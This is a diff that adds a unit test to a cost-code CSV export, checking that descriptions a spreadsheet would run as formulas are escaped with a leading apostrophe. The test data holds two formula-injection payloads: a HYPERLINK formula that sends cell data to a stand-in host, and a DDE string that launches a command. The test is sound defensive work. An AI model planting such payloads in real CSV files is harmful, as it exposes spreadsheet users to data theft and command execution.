@@ -62,6 +62,22 @@ describe('the export and the template (spec §9)', () => {
     ]);
   });
 
+  it('export: a description that a spreadsheet would run as a formula is written as text', () => {
+    const csv = costCodesExportCsv([
+      code('01-0000', '=HYPERLINK("http://evil.example/?"&A1,"Open")'),
+      code('01-0100', "@SUM(1+1)*cmd|' /C calc'!A0"),
+      code('01-0200', '-Demolition'),
+    ]);
+    const descriptions = parseCsv(csv)
+      .slice(1)
+      .map((row) => row[1]);
+    expect(descriptions).toEqual([
+      '\'=HYPERLINK("http://evil.example/?"&A1,"Open")',
+      "'@SUM(1+1)*cmd|' /C calc'!A0",
+      "'-Demolition",
+    ]);
+  });
+
   it('an export imports back as the same rows', () => {
     const csv = costCodesExportCsv([code('01-0000', 'General'), code('01-0100', 'A "quoted" one')]);
     expect(costCodeRowsFromCsv(csv).rows).toEqual([
